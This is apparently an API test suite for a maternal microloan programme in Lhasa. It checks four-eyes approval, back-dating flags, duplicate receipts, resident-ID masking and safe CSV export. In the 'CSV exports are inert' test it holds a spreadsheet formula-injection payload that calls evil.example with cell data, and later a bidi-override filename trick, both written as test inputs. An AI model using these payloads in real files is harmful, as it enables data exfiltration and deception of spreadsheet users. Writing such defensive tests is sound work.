/**
 * The controls an auditor and a data-protection officer check first (issue 11): four eyes,
 * back-dated entries, unique paper receipts, exactly-once answers under concurrency, inert
 * CSV exports, masked resident IDs with an audited reveal, refusals that never name another
 * office's records, and the exceptions report that lists all of it.
 *
 * The programme settings are shared by every test file running at the same time, so these
 * tests only read them (the defaults: four eyes on, back-dated after 7 days).
 */
import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { as, call, tokens, type Answer, type UserName } from '../support/api.ts';
import { activeLoan, agreementInput, confirmLoans, applicationInput, BOMA, daysAgo, openRound, readyApplication, residentId, roundInput, visitInput } from '../support/fixtures.ts';

let roundId: string;

beforeAll(async () => {
  roundId = await openRound({ capitalFen: 1_000_000_000 });
});

const approveAs = (user: UserName, appId: string, decidedOn = daysAgo(30)) => as(user).post(`/applications/${appId}/decision`, { decision: 'approve', decidedOn, amountFen: 1_000_000 });
const repay = (user: UserName, loanId: string, receiptNo: string, opts: { paidOn?: string; amountFen?: number; key?: string } = {}) =>
  as(user).post(`/loans/${loanId}/repayments`, { paidOn: opts.paidOn ?? daysAgo(1), amountFen: opts.amountFen ?? 100_000, receiptNo }, { idempotencyKey: opts.key ?? `ctl-${randomUUID()}` });
const exceptions = async (query: Record<string, string> = {}) => {
  const res = await as('committee').get('/reports/exceptions', { query: { districtId: 'lhasa.chengguan', from: daysAgo(0), ...query } });
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body.items as { kind: string; recordId: string; summary: string; data?: Record<string, unknown>; districtId: string }[];
};

describe('programme settings', () => {
  it('four eyes is on by default and entries are back-dated after 7 days', async () => {
    const res = await as('field').get('/settings');
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ separationOfDuties: true, backDatedAfterDays: 7 });
  });

  it('only the committee changes them (403 for a district office); an empty change is refused (400)', async () => {
    expect((await as('district').post('/settings', { separationOfDuties: false })).status).toBe(403);
    expect((await as('committee').post('/settings', {})).status).toBe(400);
    expect((await as('field').get('/settings')).body.separationOfDuties).toBe(true);
  });
});

describe('four eyes (separation of duties)', () => {
  it('the clerk who logged the two visits may not approve (409 separation_of_duties naming the visit); a second clerk approves', async () => {
    const app = await as('township').post('/applications', applicationInput(roundId));
    const id = app.body.id as string;
    expect((await as('township').post(`/applications/${id}/notice`, { postedOn: daysAgo(55) })).status).toBe(200);
    for (const visitedOn of [daysAgo(45), daysAgo(35)]) expect((await as('district').post(`/applications/${id}/visits`, visitInput({ visitedOn }))).status).toBe(201);

    const own = await approveAs('district', id);
    expect(own.status).toBe(409);
    expect(own.body.error).toMatchObject({ code: 'separation_of_duties', field: 'visit' });
    expect((await as('district').get(`/applications/${id}`)).body.status).toBe('submitted');

    const other = await approveAs('district-2', id);
    expect(other.status).toBe(200);
    expect(other.body.status).toBe('approved');
  });

  it('names the submission, the notice and the screening as conflicting steps', async () => {
    // submitted and noticed by the district clerk, visited by field staff
    const app = await as('district').post('/applications', applicationInput(roundId));
    const id = app.body.id as string;
    await as('district').post(`/applications/${id}/notice`, { postedOn: daysAgo(55) });
    for (const visitedOn of [daysAgo(45), daysAgo(35)]) await as('field').post(`/applications/${id}/visits`, visitInput({ visitedOn }));
    expect((await approveAs('district', id)).body.error).toMatchObject({ code: 'separation_of_duties', field: 'submission' });

    const screened = await readyApplication(roundId);
    expect((await as('district-2').post(`/applications/${screened}/screening`)).status).toBe(200);
    expect((await approveAs('district-2', screened)).body.error).toMatchObject({ code: 'separation_of_duties', field: 'screening' });
    expect((await approveAs('district', screened)).status).toBe(200);
  });

  it('the approver may not record the disbursement (409 naming the approval); another officer may', async () => {
    const appId = await readyApplication(roundId);
    const loanId = (await approveAs('district', appId)).body.loanId as string;
    await confirmLoans([loanId], { on: daysAgo(30) });
    expect((await as('district').post(`/loans/${loanId}/agreement`, agreementInput(daysAgo(29)))).status).toBe(200);
    const payout = { disbursedOn: daysAgo(28), amountFen: 1_000_000, motherPresent: true, idChecked: true };
    const own = await as('district').post(`/loans/${loanId}/disbursement`, payout);
    expect(own.status).toBe(409);
    expect(own.body.error).toMatchObject({ code: 'separation_of_duties', field: 'approval' });
    expect((await as('district').get(`/loans/${loanId}`)).body.status).toBe('approved');
    expect((await as('township').post(`/loans/${loanId}/disbursement`, payout)).status).toBe(200);
  });
});

describe('four eyes counts people, not accounts (accounts a person made count as her for 90 days)', () => {
  /** A clerk the demo district office adds (POST /staff), then signed in: the account records who created it. */
  async function madeBy(admin: UserName, role: 'township' | 'field', officeId: string) {
    const username = `made-${role}-${randomUUID().slice(0, 8)}`;
    const res = await as(admin).post('/staff', { username, displayName: `自建账号 · ${role === 'township' ? '卓玛' : '达娃'}`, role, officeId });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.createdBy).toMatchObject({ username: admin });
    const token = await tokens.sign({ username });
    return { id: res.body.id as string, post: (path: string, body?: unknown) => call(null, 'POST', path, body, { token }) };
  }

  it('the district office adds a township and a field account, they do every step, she approves: 409 separation_of_duties naming her own account, in all three languages', async () => {
    const township = await madeBy('district', 'township', 'lhasa.chengguan.caigongtang');
    const field = await madeBy('district', 'field', 'lhasa.chengguan');
    const app = await township.post('/applications', applicationInput(roundId));
    expect(app.status, JSON.stringify(app.body)).toBe(201);
    const id = app.body.id as string;
    expect((await township.post(`/applications/${id}/notice`, { postedOn: daysAgo(55) })).status).toBe(200);
    for (const visitedOn of [daysAgo(45), daysAgo(35)]) expect((await field.post(`/applications/${id}/visits`, visitInput({ visitedOn }))).status).toBe(201);
    expect((await field.post(`/applications/${id}/screening`)).status).toBe(200);

    const own = await approveAs('district', id);
    expect(own.status).toBe(409);
    expect(own.body.error).toMatchObject({
      code: 'separation_of_duties',
      rule: 'account_made_by_you',
      field: 'submission',
      params: { account: expect.stringMatching(/^made-township-/), days: expect.any(Number) },
    });
    expect(own.body.error.message).toMatch(/created, moved or re-activated/);
    const zh = await call('district', 'POST', `/applications/${id}/decision`, { decision: 'approve', decidedOn: daysAgo(30), amountFen: 1_000_000 }, { lang: 'zh-CN' });
    expect(zh.body.error.message).toMatch(/是你在 \d+ 天内开设/);
    const bo = await call('district', 'POST', `/applications/${id}/decision`, { decision: 'approve', decidedOn: daysAgo(30), amountFen: 1_000_000 }, { lang: 'bo' });
    expect(bo.body.error.message).toMatch(/ཁྱེད་ཀྱིས་ཉིན་ \d+ ནང་གསར་འཛུགས/);
    expect((await as('district').get(`/applications/${id}`)).body.status).toBe('submitted');

    // another person approves; the account the approver's colleague made pays out only if she did not approve
    const loanId = (await approveAs('district-2', id)).body.loanId as string;
    expect(loanId).toEqual(expect.any(String));
    await confirmLoans([loanId], { on: daysAgo(30) });
    expect((await as('district').post(`/loans/${loanId}/agreement`, agreementInput(daysAgo(29)))).status).toBe(200);
    expect((await township.post(`/loans/${loanId}/disbursement`, { disbursedOn: daysAgo(28), amountFen: 1_000_000, motherPresent: true, idChecked: true })).status).toBe(200);
  });

  it('an account made by the approver may not pay out what she approved (409 naming the approval); the staff changes are in the exceptions report with who did them', async () => {
    const appId = await readyApplication(roundId);
    const loanId = (await approveAs('district', appId)).body.loanId as string;
    await confirmLoans([loanId], { on: daysAgo(30) });
    expect((await as('district').post(`/loans/${loanId}/agreement`, agreementInput(daysAgo(29)))).status).toBe(200);
    const township = await madeBy('district', 'township', 'lhasa.chengguan.caigongtang');
    const payout = await township.post(`/loans/${loanId}/disbursement`, { disbursedOn: daysAgo(28), amountFen: 1_000_000, motherPresent: true, idChecked: true });
    expect(payout.status).toBe(409);
    expect(payout.body.error).toMatchObject({ code: 'separation_of_duties', rule: 'account_made_by_step_actor', field: 'approval', params: { account: 'district' } });
    expect((await as('township').post(`/loans/${loanId}/disbursement`, { disbursedOn: daysAgo(28), amountFen: 1_000_000, motherPresent: true, idChecked: true })).status).toBe(200);

    const listed = (await exceptions({ kind: 'staff_changed' })).filter((e) => e.recordId === township.id);
    expect(listed).toHaveLength(1);
    expect(listed[0]).toMatchObject({ data: { change: 'created', role: 'township' }, actor: { username: 'district' } });
  });

  it('an account of the demo data (no creator recorded) counts as nobody’s: her colleague approves what it did', async () => {
    const appId = await readyApplication(roundId);
    expect((await approveAs('district', appId)).status).toBe(200);
  });
});

describe('paper receipts are recorded once per township', () => {
  it('a second repayment with the same receipt number and a new Idempotency-Key is 409 naming the earlier one; the balance moves once', async () => {
    const loanId = await activeLoan(roundId);
    const receiptNo = `NO-${randomUUID().slice(0, 8)}`;
    const first = await repay('township', loanId, receiptNo);
    expect(first.status).toBe(201);
    const again = await repay('district', loanId, receiptNo);
    expect(again.status).toBe(409);
    expect(again.body.error).toMatchObject({ code: 'duplicate_receipt', field: 'receiptNo' });
    expect(again.body.error.message).toContain(first.body.id);
    // the same number written differently on the form (case, spaces, full-width) is the same receipt
    const variant = await repay('township', loanId, ` ${receiptNo.toLowerCase().replace('-', '－')} `);
    expect(variant.status).toBe(409);

    const loan = (await as('district').get(`/loans/${loanId}`)).body;
    expect(loan.balanceFen).toBe(900_000);
    expect(loan.repayments).toHaveLength(1);
    const refused = (await exceptions({ kind: 'duplicate_receipt' })).filter((e) => e.recordId === loanId);
    expect(refused).toHaveLength(2);
    expect(refused[0]!.data).toMatchObject({ receiptNo: expect.any(String), earlierRepaymentId: first.body.id });
  });

  it('the same receipt number in another township is another receipt', async () => {
    const receiptNo = `NO-${randomUUID().slice(0, 8)}`;
    const here = await activeLoan(roundId);
    const dlRound = await openRound(roundInput({ districtId: 'lhasa.duilongdeqing' }));
    const there = await activeLoanIn(dlRound);
    expect((await repay('township', here, receiptNo)).status).toBe(201);
    expect((await repay('township-b', there, receiptNo)).status).toBe(201);
  });

  it('two repayments with one receipt number sent at the same moment: one is recorded, the other refused', async () => {
    const loanId = await activeLoan(roundId);
    const receiptNo = `NO-${randomUUID().slice(0, 8)}`;
    const answers = await Promise.all([repay('township', loanId, receiptNo), repay('district', loanId, receiptNo)]);
    expect(answers.map((a) => a.status).sort()).toEqual([201, 409]);
    expect(answers.find((a) => a.status === 409)!.body.error.code).toBe('duplicate_receipt');
    expect((await as('district').get(`/loans/${loanId}`)).body.balanceFen).toBe(900_000);
  });
});

describe('exactly-once answers under concurrency', () => {
  it('five identical repayments sent at once with one key all answer 2xx with the same repayment, four marked as replays', async () => {
    const loanId = await activeLoan(roundId);
    const key = `five-${loanId}`;
    const receiptNo = `NO-${randomUUID().slice(0, 8)}`;
    const answers: Answer[] = await Promise.all(Array.from({ length: 5 }, () => repay('township', loanId, receiptNo, { key, amountFen: 1_000_000 })));
    expect(
      answers.map((a) => a.status),
      JSON.stringify(answers.map((a) => a.body)),
    ).toEqual([201, 201, 201, 201, 201]);
    expect(new Set(answers.map((a) => a.body.id)).size).toBe(1);
    expect(answers.filter((a) => a.headers['idempotent-replayed'] === 'true')).toHaveLength(4);
    const loan = (await as('district').get(`/loans/${loanId}`)).body;
    expect(loan).toMatchObject({ status: 'repaid', balanceFen: 0 });
    expect(loan.repayments).toHaveLength(1);
  });
});

describe('back-dated entries', () => {
  it('a repayment dated 40 days ago is marked back-dated in the record and its history, and appears in the exceptions report', async () => {
    const loanId = await oldLoan();
    const late = await repay('township', loanId, `NO-${randomUUID().slice(0, 8)}`, { paidOn: daysAgo(40) });
    expect(late.status).toBe(201);
    expect(late.body).toMatchObject({ paidOn: daysAgo(40), recordedAt: expect.any(String), backDated: { daysLate: 40 } });
    const onTime = await repay('township', loanId, `NO-${randomUUID().slice(0, 8)}`, { paidOn: daysAgo(2) });
    expect(onTime.body.backDated).toBeUndefined();

    const loan = (await as('district').get(`/loans/${loanId}`)).body;
    const events = loan.history.filter((e: { action: string }) => e.action === 'repayment');
    expect(events.map((e: { params: { backDated?: boolean } }) => e.params.backDated ?? false).sort()).toEqual([false, true]);
    // and its text says so
    expect(events.filter((e: { text: string }) => /back-dated|补登/.test(e.text))).toHaveLength(1);
    const flagged = (await exceptions({ kind: 'back_dated' })).filter((e) => e.recordId === loanId);
    expect(flagged.map((e) => e.data?.what)).toContain('repayment');
    expect(flagged.find((e) => e.data?.what === 'repayment')!.data).toMatchObject({ paperDate: daysAgo(40), daysLate: 40 });
  });

  it('an approval dated before its notice and visits were recorded is marked back-dated and reported even 3 days late; one dated the day they were recorded is not', async () => {
    // the notice and both visits are recorded today (dated 55, 45 and 35 days ago on paper)
    const early = await readyApplication(roundId);
    const approved = await approveAs('district-2', early, daysAgo(3));
    expect(approved.status).toBe(200);
    expect(approved.body.decision).toMatchObject({ decidedOn: daysAgo(3), backDated: { daysLate: 3 } });
    const flagged = (await exceptions({ kind: 'back_dated' })).filter((e) => e.recordId === early);
    // (the application, notice and visits are back-dated too: entered today, dated weeks ago)
    expect(flagged.filter((e) => e.data?.what === 'approval').map((e) => e.data)).toEqual([expect.objectContaining({ paperDate: daysAgo(3), daysLate: 3 })]);

    const sameDay = await readyApplication(roundId);
    const today = await approveAs('district-2', sameDay, daysAgo(0));
    expect(today.status).toBe(200);
    expect(today.body.decision.backDated).toBeUndefined();
    expect((await exceptions({ kind: 'back_dated' })).filter((e) => e.recordId === sameDay && e.data?.what === 'approval')).toEqual([]);
  });

  it('the exceptions report is the committee’s, as JSON and as CSV', async () => {
    expect((await as('district').get('/reports/exceptions')).status).toBe(403);
    const loanId = await oldLoan();
    const receiptNo = `NO-${randomUUID().slice(0, 8)}`;
    expect((await repay('township', loanId, receiptNo, { paidOn: daysAgo(40) })).status).toBe(201);
    const query = { districtId: 'lhasa.chengguan', kind: 'back_dated', from: daysAgo(0) };
    // each exception read in the caller's language: yuan and dates as written, the office and the clerk by name
    const zh = await as('committee').get('/reports/exceptions', { query, lang: 'zh-CN' });
    const item = (zh.body.items as { recordId: string; data: { what: string }; text: string; officeName: string; districtName: string; actorName: string }[]).find(
      (e) => e.recordId === loanId && e.data.what === 'repayment',
    )!;
    expect(item).toMatchObject({
      text: `还款纸面日期 ${daysAgo(40).replace(/^(\d+)-0?(\d+)-0?(\d+)$/, '$1年$2月$3日')}，晚 40 天登记`,
      districtName: expect.stringContaining('城关'),
      actorName: expect.stringContaining('格桑'),
    });
    expect(item.officeName).not.toMatch(/^lhasa/);
    const en = await as('committee').get('/reports/exceptions', { query });
    expect((en.body.items as { recordId: string; text: string }[]).find((e) => e.recordId === loanId)?.text).toMatch(
      /^(repayment|household visit|approval|public notice|application|loan agreement|disbursement) dated .* recorded \d+ days later$/,
    );

    const csv = await as('committee').get('/reports/exceptions', { query: { ...query, format: 'csv' }, lang: 'zh-CN' });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const lines = csv.body.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe('日期,类别,区,单位,说明,操作人,记录类别,记录编号');
    expect(lines.find((l: string) => l.includes(loanId) && l.includes('还款纸面日期'))).toMatch(
      /^\d{4}-\d{2}-\d{2},补录（倒签）,城关区[^,]*,[^,]+,还款纸面日期 [^,]+，晚 40 天登记,[^,]*格桑[^,]*,贷款,/,
    );
    const tibetan = await as('committee').get('/reports/exceptions', { query: { ...query, format: 'csv' }, lang: 'bo' });
    expect(tibetan.body).toContain('རྗེས་སུ་ཐོ་བཀོད།');
  });
});

describe('resident ID numbers (PIPL)', () => {
  it('an application records the mother’s consent (date and who took it) and is refused without it, or with consent dated after the application', async () => {
    const without = await as('township').post('/applications', applicationInput(roundId, { consent: undefined }));
    expect(without.status).toBe(400);
    expect(without.body.error).toMatchObject({ field: 'consent' });
    const nameless = await as('township').post('/applications', applicationInput(roundId, { consent: { givenOn: daysAgo(60) } }), { lang: 'zh-CN' });
    expect(nameless.status).toBe(400);
    expect(nameless.body.error).toMatchObject({ field: 'consent.takenBy' });
    expect(nameless.body.error.message).toContain('告知并取得同意的工作人员');
    const late = await as('township').post('/applications', applicationInput(roundId, { submittedOn: daysAgo(60), consent: { givenOn: daysAgo(59), takenBy: '格桑' } }), { lang: 'zh-CN' });
    expect(late.status).toBe(422);
    expect(late.body.error).toMatchObject({ field: 'consent.givenOn', rule: 'not_after' });
    expect(late.body.error.message).toBe(`同意书签署日期不能晚于申请日期（${daysAgo(60).replace(/^(\d+)-0?(\d+)-0?(\d+)$/, '$1年$2月$3日')}）`);

    const taken = await as('township').post('/applications', applicationInput(roundId, { submittedOn: daysAgo(60), consent: { givenOn: daysAgo(61), takenBy: '格桑' } }));
    expect(taken.status).toBe(201);
    expect((await as('district').get(`/applications/${taken.body.id}`)).body.consent).toEqual({ givenOn: daysAgo(61), takenBy: '格桑' });
  });

  it('refuses a consent signed more than a year before the application (consent_too_old), in the caller’s language, and takes one signed exactly a year before', async () => {
    // prepare: an application dated 60 days ago; a year before it is 425 days ago
    const submittedOn = daysAgo(60);

    // act
    const ancient = await as('township').post('/applications', applicationInput(roundId, { submittedOn, consent: { givenOn: '1900-01-01', takenBy: '格桑' } }), { lang: 'zh-CN' });
    const dayTooOld = await as('township').post('/applications', applicationInput(roundId, { submittedOn, consent: { givenOn: daysAgo(426), takenBy: '格桑' } }), { lang: 'bo' });
    const yearBefore = await as('township').post('/applications', applicationInput(roundId, { submittedOn, consent: { givenOn: daysAgo(425), takenBy: '格桑' } }));

    // assert
    expect(ancient.status).toBe(422);
    expect(ancient.body.error).toMatchObject({ field: 'consent.givenOn', rule: 'consent_too_old', params: { days: 365, date: daysAgo(425) } });
    expect(ancient.body.error.message).toContain('不能早于申请日期前 365 天');
    expect(dayTooOld.status).toBe(422);
    expect(dayTooOld.body.error.rule).toBe('consent_too_old');
    expect(dayTooOld.body.error.message).toMatch(/[\u0F00-\u0FFF]/);
    expect(yearBefore.status, JSON.stringify(yearBefore.body)).toBe(201);
  });

  it('the committee and field staff see them masked, township and district in full; the full number is shown only through an audited reveal', async () => {
    const appId = await readyApplication(roundId);
    const full = (await as('township').get(`/applications/${appId}`)).body.mother.residentId as string;
    expect(full).toMatch(/^\d{17}[\dX]$/);
    expect((await as('district').get(`/applications/${appId}`)).body.mother.residentId).toBe(full);
    for (const user of ['committee', 'field'] as const) expect((await as(user).get(`/applications/${appId}`)).body.mother.residentId).toBe(`${full.slice(0, 4)}**********${full.slice(14)}`);
    const loanId = (await approveAs('district-2', appId)).body.loanId as string;
    expect((await as('committee').get(`/loans/${loanId}`)).body.mother.residentId).toContain('*');

    const shown = await as('committee').post(`/applications/${appId}/resident-id`, { reason: '核对重复申请' });
    expect(shown.status).toBe(200);
    expect(shown.body.residentId).toBe(full);
    const history = (await as('district').get(`/applications/${appId}`)).body.history as { action: string; actor: { username: string } }[];
    expect(history.filter((e) => e.action === 'resident_id_revealed').map((e) => e.actor.username)).toEqual(['committee']);
    expect((await exceptions({ kind: 'resident_id_revealed' })).map((e) => e.recordId)).toContain(appId);
  });

  it('a second application in another district is refused without naming the other district’s record, and reported in both', async () => {
    const id = residentId();
    const first = await as('township').post('/applications', applicationInput(roundId, { mother: { name: '卓玛', residentId: id } }));
    expect(first.status).toBe(201);
    const dlRound = await openRound(roundInput({ districtId: 'lhasa.duilongdeqing' }));
    const second = await as('township-b').post('/applications', applicationInput(dlRound, { villageId: BOMA, mother: { name: '卓玛', residentId: id } }));
    expect(second.status).toBe(409);
    expect(second.body.error.code).toBe('mother_has_open_case');
    expect(JSON.stringify(second.body)).not.toContain(first.body.id);
    // the same district office sees its own record named
    const again = await as('township').post('/applications', applicationInput(roundId, { mother: { name: '卓玛', residentId: id } }));
    expect(again.body.error.message).toContain(first.body.id);
    expect((await exceptions({ kind: 'cross_district_application' })).map((e) => e.recordId)).toContain(first.body.id);
    const there = await as('committee').get('/reports/exceptions', { query: { districtId: 'lhasa.duilongdeqing', kind: 'cross_district_application', from: daysAgo(0) } });
    expect(JSON.stringify(there.body.items)).not.toContain(first.body.id);
    expect(there.body.items.length).toBeGreaterThan(0);
  });
});

describe('CSV exports are inert', () => {
  /** Cells of a CSV file (quoted fields with doubled quotes, CRLF lines). */
  function cells(csv: string): string[] {
    const out: string[] = [];
    const re = /(?:^|,)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g;
    for (const line of csv
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean)) {
      for (const m of line.matchAll(re)) out.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : (m[2] ?? ''));
    }
    return out;
  }
  const dangerous = (cell: string) => /^[=+@\t\r]/.test(cell) || /^-[^\d]/.test(cell);

  it('an office and a round named like formulas come out as text, numbers stay numbers', async () => {
    const evil = `=HYPERLINK("http://evil.example/?x="&A1,"点击")`;
    const township = `lhasa.chengguan.f${randomUUID().slice(0, 6)}`;
    expect((await as('committee').post('/offices', { id: township, name: evil })).status).toBe(201);
    const round = await openRound({ name: `+SUM(1,2) ${randomUUID().slice(0, 4)}` });
    await activeLoan(round);

    const remittances = await as('committee').get('/reports/remittances', { query: { districtId: 'lhasa.chengguan', format: 'csv' } });
    const byRound = await as('committee').get('/reports/repayment', { query: { districtId: 'lhasa.chengguan', groupBy: 'round', format: 'csv' } });
    const all = [...cells(remittances.body), ...cells(byRound.body)];
    expect(all).toContain(`'${evil}`);
    expect(all.some((c) => c.startsWith("'+SUM(1,2)"))).toBe(true);
    expect(all.filter(dangerous)).toEqual([]);
    expect(all.some((c) => /^\d+\.\d\d$/.test(c))).toBe(true);
  });
});

/** A loan disbursed 58 days ago (its application submitted 100 days ago), so a repayment may be dated 40 days back. */
async function oldLoan(): Promise<string> {
  const app = await as('township').post('/applications', applicationInput(roundId, { submittedOn: daysAgo(100) }));
  const id = app.body.id as string;
  await as('township').post(`/applications/${id}/notice`, { postedOn: daysAgo(95) });
  for (const visitedOn of [daysAgo(90), daysAgo(85)]) await as('field').post(`/applications/${id}/visits`, visitInput({ visitedOn }));
  const loanId = (await approveAs('district', id, daysAgo(60))).body.loanId as string;
  await confirmLoans([loanId], { on: daysAgo(60) });
  await as('district').post(`/loans/${loanId}/agreement`, agreementInput(daysAgo(59)));
  const paid = await as('district-2').post(`/loans/${loanId}/disbursement`, { disbursedOn: daysAgo(58), amountFen: 1_000_000, motherPresent: true, idChecked: true });
  expect(paid.status, JSON.stringify(paid.body)).toBe(200);
  return loanId;
}

/** An active loan in the second district (township-b submits, a field officer of that district visits, district-b approves, township-b pays out). */
async function activeLoanIn(dlRound: string): Promise<string> {
  const app = await as('township-b').post('/applications', applicationInput(dlRound, { villageId: BOMA }));
  const id = app.body.id as string;
  await as('township-b').post(`/applications/${id}/notice`, { postedOn: daysAgo(55) });
  const { tokens } = await import('../support/api.ts');
  const fieldB = await tokens.sign({ username: 'field-b', role: 'field', officeId: 'lhasa.duilongdeqing' });
  for (const visitedOn of [daysAgo(45), daysAgo(35)]) await call(null, 'POST', `/applications/${id}/visits`, visitInput({ visitedOn }), { token: fieldB });
  const loanId = (await approveAs('district-b', id)).body.loanId as string;
  await confirmLoans([loanId], { sender: 'district-b', on: daysAgo(30) });
  await as('district-b').post(`/loans/${loanId}/agreement`, agreementInput(daysAgo(29)));
  const paid = await as('township-b').post(`/loans/${loanId}/disbursement`, { disbursedOn: daysAgo(28), amountFen: 1_000_000, motherPresent: true, idChecked: true });
  expect(paid.status, JSON.stringify(paid.body)).toBe(200);
  return loanId;
}

describe('text that is not what a reader sees', () => {
  it('a body that is not valid UTF-8 is refused (400 naming the body), nothing is stored', async () => {
    const body = Buffer.concat([Buffer.from('{"postedOn":"2026-01-01","place":"'), Buffer.from([0xc3, 0x28]), Buffer.from('"}')]);
    const appId = (await as('township').post('/applications', applicationInput(roundId))).body.id as string;
    const res = await call('township', 'POST', `/applications/${appId}/notice`, undefined, { rawBytes: body });
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ code: 'invalid_encoding', field: 'body' });
    expect((await as('district').get(`/applications/${appId}`)).body.notice).toBeUndefined();
  });

  it('a mother’s name with a bidi override, or a zero-width space, or a replaced byte is refused naming the field', async () => {
    for (const name of ['卓玛\u202Egnp.exe', '卓\u200B玛', '卓\uFFFD玛']) {
      const res = await as('township').post('/applications', applicationInput(roundId, { mother: { name, residentId: residentId() } }));
      expect(res.status, name).toBe(400);
      expect(res.body.error.field, name).toBe('mother.name');
    }
  });
});
